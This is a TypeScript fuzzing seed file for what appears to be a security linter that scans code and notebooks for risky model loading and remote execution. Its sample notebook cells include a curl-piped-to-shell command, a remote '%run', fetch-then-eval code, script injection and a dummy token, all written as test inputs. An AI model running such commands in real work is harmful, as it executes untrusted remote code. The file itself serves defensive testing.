/** Texts that fuzzing starts from: the examples of all rules, odd snippets, notebooks, files beside code, settings. */

import { strip } from '../../server/core/service/marks.ts';
import { examplesOf } from '../../server/core/service/pages.ts';
import type { Language } from '../../server/core/syntax/language.ts';
import { SNIPPETS } from '../core/corpus.ts';
import { cell, notebook } from '../kit/notebooks.ts';
import { service } from '../kit/service.ts';

const EXAMPLES = service.rules.flatMap(({ id }) =>
  examplesOf(id).map(({ language, code }) => ({ language, text: strip(code) })),
);

const codeOf = (language: Language) =>
  [...EXAMPLES, ...SNIPPETS].filter((it) => it.language === language && it.text.length < 4_000).map((it) => it.text);

export const CODE: Readonly<Record<Language, readonly string[]>> = {
  python: codeOf('python'),
  javascript: codeOf('javascript'),
  typescript: codeOf('typescript'),
  tsx: codeOf('tsx'),
};

export const ALL_CODE: readonly string[] = Object.values(CODE).flat();

/** What stands in cells but in no program. */
const MAGICS = [
  '%pip install requests\n!pip install -q acme==1.0\n',
  '!curl -s https://a.example/i.sh | sh\nfiles = !ls\n',
  '%%bash\npip install acme\n# loadguard: ignore[runtime-install] ours\n',
  '%%writefile plugin.py\nimport os\nos.system("x")\n',
  '%run https://a.example/x.py\n%load_ext autoreload\nprint?\n',
  '%%html\n<script src="https://a.example/x.js"></script>\n',
  'get_ipython().system(f"pip install {name}")\n',
];

export const CELLS: readonly string[] = [...CODE.python, ...MAGICS];

const OUTPUTS = [
  { output_type: 'stream', name: 'stdout', text: ['token hf_abcdefghijklmnopqrstuvwxyzABCDEFGH\n'] },
  {
    output_type: 'display_data',
    data: { 'text/html': ['<script src="https://a.example/x.js"></script>'] },
    metadata: {},
  },
  { output_type: 'error', ename: 'E', evalue: 'x', traceback: ['\u001b[0;31mE\u001b[0m'] },
  { output_type: 'execute_result', data: { 'application/json': { a: [1, 2] } }, execution_count: 3 },
];

/** Whole notebooks, as files. */
export const NOTEBOOKS: readonly string[] = [
  ...EXAMPLES.filter((it) => it.language === 'notebook').map((it) => it.text),
  notebook([cell(MAGICS[0]!), cell(MAGICS[1]!, { count: 4, outputs: OUTPUTS }), cell('# a\n', { kind: 'markdown' })]),
  notebook([
    cell(MAGICS[2]!, { metadata: { tags: ['loadguard-ignore:runtime-install:ours', 'parameters'] } }),
    cell('x = 1\n', { metadata: { vscode: { languageId: 'javascript' } }, count: 2 }),
    cell('![a](attachment:a.svg)', {
      kind: 'markdown',
      attachments: { 'a.svg': { 'image/svg+xml': '<svg onload="x()"/>' } },
    }),
  ]),
  notebook([cell('const a = await fetch(u); eval(await a.text());\n')], 'typescript'),
  JSON.stringify({
    worksheets: [{ cells: [{ cell_type: 'code', input: ['exec(x)'], prompt_number: 1, outputs: [] }] }],
    nbformat: 3,
  }),
];

/** Settings that say something at every key. */
export const SETTINGS = `{
  // What a team says.
  "$schema": "./loadguard.schema.json", "root": true, "extends": ["strict", "./base.jsonc"],
  "rules": { "unpinned-revision": "error", "runtime-compile": { "severity": "hint", "minimumConfidence": "high" } },
  "overrides": [
    { "files": ["tests/**", "*.test.{ts,js}", "[a-z]?/**"], "rules": { "unpinned-revision": "off" }, "locked": ["exposed-secret"] },
    { "notebooks": true, "minimumConfidence": "medium" },
  ],
  "allow": {
    "organisations": [{ "name": "acme", "reason": "our own", "owner": "platform", "until": "2027-01-31" }],
    "repositories": [{ "name": "org/model", "revision": "v1", "reason": "read it" }],
    "hosts": [{ "name": "*.acme.com", "reason": "our own" }],
    "packages": [{ "name": "acme-tools", "reason": "our own" }],
    "indexes": [{ "name": "https://pypi.acme.com/simple", "reason": "our own" }]
  },
  "models": [{ "library": "acme", "language": "python",
    "rows": [{ "call": "acme.load", "role": "load", "kind": "hub", "artifact": "model", "arguments": { "repository": [0] } },
      { "call": "acme.*.run", "role": "sink", "kind": "execute", "arguments": { "code": [0, "code"] } }] }],
  "minimumConfidence": "low", "files": { "models": true }, "exclude": ["third_party"], "locked": ["trust-remote-code"]
}
`;

export const TABLE = `[project]
name = "x"
[tool.loadguard]
extends = ["strict"]
minimumConfidence = "low"
exclude = "third_party"
rules."unpinned-revision" = "error"
rules.runtime-compile = { severity = "hint" }
[[tool.loadguard.overrides]]
files = ["tests/**"]
rules = { remote-exec = "off" }
[[tool.loadguard.allow.organisations]]
name = "acme"
reason = '''our own'''
until = 2027-01-31
`;

export const LOCK = `{
  "version": 1,
  "approvals": [
    { "host": "huggingface", "type": "model", "repository": "acme/tiny",
      "commit": "0123456789abcdef0123456789abcdef01234567",
      "code": "sha256-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
      "by": "Ann", "on": "2026-01-01", "reason": "read modeling.py", "until": "2026-12-31" },
    { "host": "github", "type": "model", "repository": "acme/tools",
      "commit": "0123456789abcdef0123456789abcdef01234567", "by": "Ann", "on": "2026-01-01", "reason": "read it" }
  ]
}
`;
